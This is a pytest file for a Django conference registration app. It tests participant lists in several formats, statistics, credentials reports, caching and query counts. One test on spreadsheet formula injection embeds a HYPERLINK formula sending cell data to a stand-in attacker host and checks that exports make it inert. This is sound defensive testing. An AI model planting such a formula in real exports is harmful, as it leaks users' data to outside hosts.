"""The list of participants (screen, PDF, XLSX, CSV), the statistics and the report on credentials."""

import csv
import io

import openpyxl
import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from registration import selectors, services
from registration.models import Credentials, Delegation, Member
from tests.factories import DocumentFactory, OrganisationFactory, ParticipationFactory, StateFactory, ccm

from .conftest import head, member, register, team

HEADER = ["Category", "State or organisation", "Title", "Given name", "Family name", "Role", "Position", "E-mail"]


def _state(name: str, status: str | None):
    state = StateFactory(name_en=name)
    if status == "party":
        ParticipationFactory(state=state)
    elif status == "signatory":
        ParticipationFactory(state=state, deposit_date=None, instrument="")
    return state


def _organisation(name: str, acronym: str, *, by_right: bool):
    organisation = OrganisationFactory(name=name, acronym=acronym)
    if by_right:
        organisation.observer_by_right.add(ccm())
    return organisation


# (party name, treaty status or "org"/"org-asks", members as (family name, given name, role, gender)).
# Given in a scrambled order; the expected order is EXPECTED below.
APPROVED = [
    (
        "Zembla",
        "party",
        [("Quist", "Hana", "adviser", "f"), ("Zeller", "Ruth", "head", "f"), ("Abara", "Kofi", "alternate", "m")],
    ),
    ("Cluster Munition Coalition", "org", [("Okafor", "Ngozi", "head", "f")]),
    ("Mauritia", "signatory", [("Ramgoolam", "Devi", "head", "f")]),
    ("Cuba", "party", [("Rodriguez", "Pablo", "head", "m"), ("Herrera", "Lucia", "expert", "")]),
    ("Carpathia", None, [("Horvath", "Istvan", "head", "m")]),
    ("Côte d'Ivoire", "party", [("Kouassi", "Yao", "head", "m")]),
    ("Mine Action Watch", "org-asks", [("Moreau", "Claire", "head", "f")]),
    ("Borduria", "signatory", [("Vasquez", "Bruno", "head", "m"), ("Tanaka", "Chiyo", "adviser", "f")]),
    ("Agraba", None, [("Jafar", "Amir", "head", "")]),
    ("International Committee of the Red Cross", "org", [("Dupont", "Marc", "head", "m")]),
]
EXPECTED = [
    ("States Parties", "Côte d'Ivoire", ["Kouassi"]),
    ("States Parties", "Cuba", ["Rodriguez", "Herrera"]),
    ("States Parties", "Zembla", ["Zeller", "Quist", "Abara"]),
    ("Signatory States", "Borduria", ["Vasquez", "Tanaka"]),
    ("Signatory States", "Mauritia", ["Ramgoolam"]),
    ("Observer States", "Agraba", ["Jafar"]),
    ("Observer States", "Carpathia", ["Horvath"]),
    ("Organisations", "Cluster Munition Coalition (CMC)", ["Okafor"]),
    ("Organisations", "International Committee of the Red Cross (ICRC)", ["Dupont"]),
    ("Organisations", "Mine Action Watch (MAW)", ["Moreau"]),
]
NOT_APPROVED = ["Elbonian", "Freedonian", "Genovian"]


def expected_family_names() -> list[str]:
    return [name for _, _, names in EXPECTED for name in names]


@pytest.fixture
def listing(meeting, secretariat, presidency):
    """Ten approved delegations in every category, and three that are not approved (submitted, draft, returned)."""
    acronyms = {"Cluster Munition Coalition": "CMC", "International Committee of the Red Cross": "ICRC"}
    for name, status, people in APPROVED:
        members = [
            member(family, given, role=role, gender=gender, title="Ms." if gender == "f" else "Mr.")
            for family, given, role, gender in people
        ]
        if status in ("org", "org-asks"):
            organisation = _organisation(name, acronyms.get(name, "MAW"), by_right=status == "org")
            delegation = register(meeting, secretariat, members, organisation=organisation, submit=True)
            if status == "org-asks":
                services.admission_invite(delegation=delegation, by=presidency)
                services.admission_decide(delegation=delegation, by=secretariat, approve=True)
            services.delegation_decide(delegation=delegation, by=secretariat, approve=True)
        else:
            register(meeting, secretariat, members, state=_state(name, status), approve_by=secretariat)

    register(meeting, secretariat, [head("Elbonian")], state=_state("Elbonia", "party"), submit=True)
    register(meeting, secretariat, [head("Freedonian")], state=_state("Freedonia", "party"))
    returned = register(meeting, secretariat, [head("Genovian")], state=_state("Genovia", "party"), submit=True)
    services.delegation_decide(delegation=returned, by=secretariat, approve=False, reason="Incomplete")
    return meeting


def positions(text: str, names: list[str]) -> list[int]:
    found = [text.find(name) for name in names]
    assert -1 not in found, [n for n, p in zip(names, found, strict=True) if p == -1]
    return found


def test_participants_in_un_order(listing):
    listed = selectors.participants(meeting=listing)
    labels = dict(Delegation.Category.choices)

    got = [(labels[e.category], str(e.delegation.party), [m.family_name for m in e.members]) for e in listed]
    assert got == EXPECTED


def test_head_of_delegation_is_listed_first_whatever_the_order_typed(listing):
    for entry in selectors.participants(meeting=listing):
        assert entry.members[0].role == Member.Role.HEAD
        assert [m.role for m in entry.members[1:]].count(Member.Role.HEAD) == 0


def test_other_meetings_delegations_are_not_listed(listing, other_meeting, secretariat, state_a):
    register(other_meeting, secretariat, [head("Elsewhere")], state=state_a, approve_by=secretariat)
    names = [m.family_name for e in selectors.participants(meeting=listing) for m in e.members]
    assert "Elsewhere" not in names
    assert names == expected_family_names()


def test_participants_page(login, secretariat, listing):
    response = login(secretariat).get(reverse("registration:participants", args=[listing.slug]))

    text = response.content.decode()
    headings = positions(
        text, [">States Parties</h2>", ">Signatory States</h2>", ">Observer States</h2>", ">Organisations</h2>"]
    )
    assert headings == sorted(headings)
    found = positions(text, [name.upper() for name in expected_family_names()])
    assert found == sorted(found)
    assert '<span class="name">Ms. Ruth ZELLER</span> <span class="badge">Head of delegation</span>' in text
    assert text.count("Head of delegation</span>") == 10
    for name in NOT_APPROVED:
        assert name.upper() not in text


def test_participants_pdf(login, secretariat, listing):
    response = login(secretariat).get(reverse("registration:participants_file", args=[listing.slug, "pdf"]))

    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    found = positions(text, [name.upper() for name in expected_family_names()])
    assert found == sorted(found)
    groups = positions(text, ["States Parties", "Signatory States", "Observer States", "Organisations"])
    assert groups == sorted(groups)
    parties = positions(text, ["Cuba", "Zembla", "Borduria", "Mauritia", "Agraba", "Carpathia"])
    assert parties == sorted(parties)
    for name in NOT_APPROVED:
        assert name.upper() not in text


def test_participants_pdf_names_the_meeting_and_counts_like_a_un_list(login, secretariat, listing):
    response = login(secretariat).get(reverse("registration:participants_file", args=[listing.slug, "pdf"]))

    reader = PdfReader(io.BytesIO(response.content))
    first = reader.pages[0].extract_text()
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Convention on Cluster Munitions" in first
    assert "20MSP" in first  # no list symbol among the documents: the meeting's code
    assert "Twentieth Meeting of States Parties" in first
    start, end = listing.start_date, listing.end_date
    if (start.year, start.month) == (end.year, end.month):
        dates = f"{start.day}–{end:%-d %B %Y}"
    elif start.year == end.year:
        dates = f"{start:%-d %B} – {end:%-d %B %Y}"
    else:
        dates = f"{start:%-d %B %Y} – {end:%-d %B %Y}"
    assert f"Geneva, {dates}" in first
    assert "Palais des Nations" in first
    assert "List of participants" in first
    assert f"Issued on {timezone.localdate():%-d %B %Y}" in first
    assert f"Page 1 of {len(reader.pages)}" in first
    # Counts per category, delegations and persons, and the totals.
    for row in (
        "States Parties 3 6",
        "Signatory States 2 3",
        "Observer States 2 2",
        "Organisations 3 3",
        "Total 10 14",
    ):
        assert row in first, row
    # "H.E. Ms." for an excellency whose gender is given; the head first, marked as such.
    assert "Ms. Ruth ZELLER" in text and text.count("HEAD OF DELEGATION") == 10


def test_participants_list_carries_the_symbol_of_the_published_list(login, secretariat, listing):
    DocumentFactory(meeting=listing, symbol="CCM/MSP/2030/INF.1", title="List of participants", kind="information")
    client = login(secretariat)

    pdf = PdfReader(
        io.BytesIO(client.get(reverse("registration:participants_file", args=[listing.slug, "pdf"])).content)
    )
    html = client.get(reverse("registration:participants", args=[listing.slug])).content.decode()

    assert "CCM/MSP/2030/INF.1" in pdf.pages[0].extract_text()
    assert "CCM/MSP/2030/INF.1" in html


def test_an_excellency_is_listed_with_ms_or_mr_from_the_gender(login, secretariat, meeting, state_a):
    register(
        meeting,
        secretariat,
        [
            head("Okonkwo", "Amina", gender="f"),
            member("Berg", "Lars", title="H.E.", gender="m"),
            member("Wei", "Chen", title="H.E."),
        ],
        state=state_a,
        approve_by=secretariat,
    )

    (entry,) = selectors.participants(meeting=meeting)

    assert [m.name_in_list for m in entry.members] == ["H.E. Ms. Amina OKONKWO", "H.E. Mr. Lars BERG", "H.E. Chen WEI"]


def _expected_rows() -> list[list[str]]:
    by_party = {name: people for name, _, people in APPROVED}
    rows = []
    for category, party, names in EXPECTED:
        people = {p[0]: p for p in by_party[party.split(" (")[0]]}
        for family in names:
            _, given, role, gender = people[family]
            rows.append(
                [
                    category,
                    party,
                    "Ms." if gender == "f" else "Mr.",
                    given,
                    family.upper(),
                    dict(Member.Role.choices)[role],
                    "",
                    "",
                ]
            )
    return rows


def _csv_rows(response) -> list[list[str]]:
    assert response.content.startswith("\ufeff".encode())  # Excel reads the accents as UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_rows(response) -> list[list[str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [["" if value is None else str(value) for value in row] for row in sheet.iter_rows(values_only=True)]


def test_csv_and_xlsx_have_the_same_rows_in_the_same_order(login, secretariat, listing):
    client = login(secretariat)
    as_csv = client.get(reverse("registration:participants_file", args=[listing.slug, "csv"]))
    as_xlsx = client.get(reverse("registration:participants_file", args=[listing.slug, "xlsx"]))

    assert as_csv["Content-Type"].startswith("text/csv")
    assert as_csv["Content-Disposition"] == 'attachment; filename="participants-20msp.csv"'
    assert as_xlsx["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    csv_rows, xlsx_rows = _csv_rows(as_csv), _xlsx_rows(as_xlsx)
    assert csv_rows[0] == xlsx_rows[0] == HEADER
    assert openpyxl.load_workbook(io.BytesIO(as_xlsx.content)).sheetnames == ["List of participants"]
    assert csv_rows[1:] == xlsx_rows[1:] == _expected_rows()


def test_unknown_format_is_404(login, secretariat, listing):
    assert login(secretariat).get(f"/register/{listing.slug}/participants.docx").status_code == 404


def test_spreadsheets_do_not_run_formulas_typed_as_names(login, secretariat, meeting, state_a):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    register(
        meeting,
        secretariat,
        [head("+Plus", payload, position="@SUM(A1:A9)"), member("-Minus", "Eve")],
        state=state_a,
        approve_by=secretariat,
    )
    client = login(secretariat)

    sheet = openpyxl.load_workbook(
        io.BytesIO(client.get(reverse("registration:participants_file", args=[meeting.slug, "xlsx"])).content)
    ).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert cells and all(cell.data_type != "f" for cell in cells)
    csv_cells = [
        cell
        for row in _csv_rows(client.get(reverse("registration:participants_file", args=[meeting.slug, "csv"])))[1:]
        for cell in row
    ]
    for value in [*(str(c.value) for c in cells), *csv_cells]:
        assert not value.startswith(("=", "+", "-", "@")), value
    # The text itself is kept, only made inert.
    assert f"'{payload}" in csv_cells and "'@SUM(A1:A9)" in csv_cells and "'-MINUS" in csv_cells


def test_statistics(login, secretariat, listing):
    statistics = selectors.meeting_statistics(meeting=listing)

    assert statistics.delegations_by_category == {
        "States Parties": 3,
        "Signatory States": 2,
        "Observer States": 2,
        "Organisations": 3,
    }
    assert statistics.participants_by_category == {
        "States Parties": 6,
        "Signatory States": 3,
        "Observer States": 2,
        "Organisations": 3,
    }
    assert statistics.gender == {"Female": 6, "Male": 6, "Not given": 2}

    text = login(secretariat).get(reverse("registration:participants", args=[listing.slug])).content.decode()
    assert (
        '<tr><th scope="row">States Parties</th><td class="num" data-label="Delegations">3</td>'
        '<td class="num" data-label="Participants">6</td></tr>'
    ) in text
    assert (
        '<tr><th scope="row">Organisations</th><td class="num" data-label="Delegations">3</td>'
        '<td class="num" data-label="Participants">3</td></tr>'
    ) in text
    assert (
        '<tr><th scope="row">Total</th><td class="num" data-label="Delegations">10</td>'
        '<td class="num" data-label="Participants">14</td></tr>'
    ) in text
    assert "Female 6" in text and "Male 6" in text and "Not given 2" in text


def test_empty_list(login, secretariat, meeting):
    assert selectors.participants(meeting=meeting) == []
    statistics = selectors.meeting_statistics(meeting=meeting)
    assert set(statistics.delegations_by_category.values()) == {0} and statistics.gender == {}
    response = login(secretariat).get(reverse("registration:participants", args=[meeting.slug]))
    assert b"No delegation has been approved yet." in response.content


# --- report on credentials --------------------------------------------------------------------------------------------


@pytest.fixture
def credentials_world(meeting, secretariat, pdf_upload):
    """States in every situation of the report, registered by the secretariat and submitted."""

    def submitted(name):
        return register(meeting, secretariat, [head(f"{name}head")], state=_state(name, "party"), submit=True)

    def with_credentials(name, status=None, reason=""):
        delegation = submitted(name)
        credentials = services.credentials_upload(delegation=delegation, file=pdf_upload(), user=secretariat)
        if status:
            services.credentials_review(credentials=credentials, by=secretariat, status=status, reason=reason)
        return delegation

    with_credentials("Zembla", Credentials.Status.IN_ORDER)
    with_credentials("Arcadia", Credentials.Status.IN_ORDER)
    with_credentials("Borduria", Credentials.Status.COPY_ONLY)
    submitted("Cuba")
    submitted("Côte d'Ivoire")
    with_credentials("Dalmora")  # received, not yet examined
    with_credentials("Elbonia", Credentials.Status.REJECTED, "Signed by the deputy minister")
    # Not counted: a draft, and an organisation (credentials are for States).
    register(meeting, secretariat, [head("Drafthead")], state=_state("Freedonia", "party"))
    organisation = _organisation("Cluster Munition Coalition", "CMC", by_right=True)
    register(meeting, secretariat, [head("Okafor")], organisation=organisation, submit=True)
    return meeting


def test_credentials_report_groups(credentials_world):
    report = selectors.credentials_report(meeting=credentials_world)

    def names(group):
        return [str(d.party) for d in group]

    assert names(report.in_order) == ["Arcadia", "Zembla"]
    assert names(report.copy_only) == ["Borduria"]
    assert names(report.missing) == ["Côte d'Ivoire", "Cuba", "Dalmora"]
    assert names(report.rejected) == ["Elbonia"]


def test_credentials_report_page(login, secretariat, credentials_world):
    response = login(secretariat).get(reverse("registration:credentials_report", args=[credentials_world.slug]))

    text = response.content.decode()
    assert "Formal credentials in order (2)" in text
    assert "Copies only, provisionally (1)" in text
    assert "Missing or not yet examined (3)" in text
    assert 'Dalmora <span class="muted">(received, not examined)</span>' in text
    assert "Elbonia: Signed by the deputy minister" in text
    assert "Freedonia" not in text
    assert "(CMC)" not in text


# --- same number of queries for one participant as for 600 ------------------------------------------------------------


def _queries(client, url) -> tuple[int, int]:
    """Queries to build the output (the cache emptied first), then to serve it again from the cache."""
    cache.clear()
    counts = []
    for _ in range(2):
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url)
            assert response.status_code == 200
        counts.append(len(queries))
    return counts[0], counts[1]


def test_participants_list_runs_the_same_queries_for_one_participant_and_for_600(login, secretariat, meeting):
    client = login(secretariat)
    urls = [
        reverse("registration:participants", args=[meeting.slug]),
        reverse("registration:participants_file", args=[meeting.slug, "xlsx"]),
        reverse("registration:participants_file", args=[meeting.slug, "csv"]),
    ]
    first = _state("Arcadia", "party")
    register(meeting, secretariat, [head("Solo")], state=first, approve_by=secretariat)
    client.get(urls[0])  # warm up the session

    one = [_queries(client, url) for url in urls]
    services.delegation_save(meeting=meeting, user=secretariat, members=team(30, prefix="A"), state=first, version=1)
    for i in range(19):
        status = ("party", "signatory", None)[i % 3]
        register(
            meeting,
            secretariat,
            team(30, prefix=f"S{i}"),
            state=_state(f"State {i:02d}", status),
            approve_by=secretariat,
        )
    many = [_queries(client, url) for url in urls]

    assert Member.objects.filter(delegation__meeting=meeting).count() == 600
    assert many == one


def _listed_text(client, meeting, fmt: str) -> str:
    """What the list says, whatever the format: the page's HTML, or every cell of the spreadsheet."""
    if fmt == "html":
        return client.get(reverse("registration:participants", args=[meeting.slug])).content.decode()
    content = client.get(reverse("registration:participants_file", args=[meeting.slug, fmt])).content
    if fmt == "csv":
        return content.decode("utf-8-sig")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return " ".join(str(cell) for row in sheet.iter_rows(values_only=True) for cell in row)


@pytest.mark.parametrize("fmt", ["html", "xlsx", "csv"])
def test_the_cached_list_shows_every_change_at_once(login, secretariat, meeting, fmt):
    """The outputs are cached under the version of their data: members changed, a delegation approved,
    a State renamed or its treaty status corrected show on the next request, never the old list."""
    client = login(secretariat)
    arcadia, borduria = _state("Arcadia", "party"), _state("Borduria", "party")
    first = register(meeting, secretariat, [head("Ahlgren")], state=arcadia, approve_by=secretariat)
    assert "AHLGREN" in _listed_text(client, meeting, fmt)
    assert "AHLGREN" in _listed_text(client, meeting, fmt)  # now from the cache

    services.delegation_save(
        meeting=meeting, user=secretariat, members=[head("Borg")], state=arcadia, version=first.version
    )
    text = _listed_text(client, meeting, fmt)
    assert "BORG" in text and "AHLGREN" not in text

    register(meeting, secretariat, [head("Castro")], state=borduria, approve_by=secretariat)
    assert "CASTRO" in _listed_text(client, meeting, fmt)

    borduria.name_en = "Borduria (renamed)"
    borduria.save()
    assert "Borduria (renamed)" in _listed_text(client, meeting, fmt)

    signatories = ">Signatory States</h2>" if fmt == "html" else "Signatory States"  # the heading, not the counts
    assert signatories not in _listed_text(client, meeting, fmt)
    arcadia.participations.update(deposit_date=None, instrument="")  # signed, never ratified
    assert signatories in _listed_text(client, meeting, fmt)


def test_the_list_is_built_once_until_it_changes(login, secretariat, meeting):
    client = login(secretariat)
    register(meeting, secretariat, team(3), state=_state("Arcadia", "party"), approve_by=secretariat)
    url = reverse("registration:participants", args=[meeting.slug])
    first = client.get(url).content.decode()
    with CaptureQueriesContext(connection) as queries:
        again = client.get(url).content.decode()
    listing = first[first.index("In numbers") :]  # above it, the page has a token of its own each time
    assert "MEMBERHEAD" in listing and again.endswith(listing)
    assert not [q for q in queries.captured_queries if q["sql"].startswith('SELECT "registration_member"')]
